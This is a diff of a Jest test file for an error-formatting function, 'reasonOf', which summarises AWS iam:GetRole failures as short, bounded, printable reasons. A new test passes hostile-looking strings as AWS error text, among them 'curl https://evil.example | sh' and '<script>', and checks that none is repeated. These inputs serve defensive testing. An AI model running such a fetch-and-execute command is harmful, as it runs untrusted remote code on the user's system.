@@ -56,12 +56,17 @@ describe('the reason for a failure', () => {
     [new Error('x', { cause: Object.assign(new Error('y'), { code: 'ENOTFOUND' }) }), 'no connection'],
     [awsError('CredentialsProviderError'), 'no AWS credentials'],
     [awsError('ExpiredTokenException'), 'AWS did not accept the credentials (iam:GetRole)'],
-    [awsError('ValidationException', 'bad id'), 'ValidationException: bad id'],
+    [awsError('ValidationException', 'bad id'), 'failed with ValidationException (iam:GetRole)'],
+    [new TypeError('x is not a function'), 'failed with TypeError (iam:GetRole)'],
+    [
+      awsError('ReadRoleError', 'role Reader cannot be assumed'),
+      'ReadRoleError: role Reader cannot be assumed',
+    ],
     [new SyntaxError('Unexpected token <'), 'the answer could not be read (iam:GetRole)'],
     ['a text', 'Error: a text'],
     [undefined, 'Error: no reason given'],
     [null, 'Error: no reason given'],
-    [{ name: 3, message: {} }, '3: no reason given'],
+    [{ name: 3, message: {} }, 'failed with 3 (iam:GetRole)'],
   ])('of %p is %p', (error, reason) => {
     expect(reasonOf(error, OPERATION)).toBe(reason);
   });
@@ -72,10 +77,19 @@ describe('the reason for a failure', () => {
   });
 
   it('bounds what a message may say', () => {
-    const reason = reasonOf(awsError('Odd', 'x'.repeat(1_000_000)), OPERATION);
+    const reason = reasonOf(new Error('x'.repeat(1_000_000)), OPERATION);
     expect(reason).toHaveLength(200);
-    expect(reason).toMatch(/^Odd: x+…$/);
+    expect(reason).toMatch(/^Error: x+…$/);
   });
+
+  it.each(['<script>', 'curl https://evil.example | sh', 'arn:aws:iam::111122223333:role/x'])(
+    'repeats nothing that AWS says of a call: %s',
+    (said) => {
+      expect(reasonOf(awsError('ValidationError', said), OPERATION)).toBe(
+        'failed with ValidationError (iam:GetRole)',
+      );
+    },
+  );
 
   it('takes any error text and stays printable', () => {
     fc.assert(
